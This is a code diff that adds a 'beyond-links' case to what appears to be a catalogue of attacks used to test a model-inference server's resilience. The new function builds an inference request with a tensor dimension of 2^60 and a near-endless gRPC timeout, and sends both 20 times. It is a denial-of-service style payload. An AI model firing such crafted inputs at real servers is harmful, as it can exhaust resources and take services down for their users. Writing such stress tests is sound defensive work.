@@ -366,6 +366,20 @@ def stalled_log(target: Target) -> Fire:
     return fire
 
 
+def beyond_links(target: Target) -> Fire:
+    shape = b'"shape":[0,1152921504606846976],"data":[]}]}'
+    text = b'{"inputs":[{"name":"input","datatype":"UINT8",' + shape
+    message = grpc_message(_message(MLP, "FP32", (1, 64), bytes(256)))
+
+    def fire() -> None:
+        with Http2(target.grpc, headers=[("grpc-timeout", "99999999H")]) as connection:
+            for _ in range(20):
+                post(target.http, f"/v2/models/{MLP}/infer", text)
+                connection.wait(connection.call(message))
+
+    return fire
+
+
 ATTACKS = {
     attack.name: attack
     for attack in (
@@ -396,6 +410,7 @@ ATTACKS = {
             "endless-upstream", "an upstream whose answer does not end", endless_upstream, 64 * MB
         ),
         Attack("stalled-log", "nobody reads standard error", stalled_log),
+        Attack("beyond-links", "numbers that front ends cannot pass on", beyond_links),
     )
 }
 
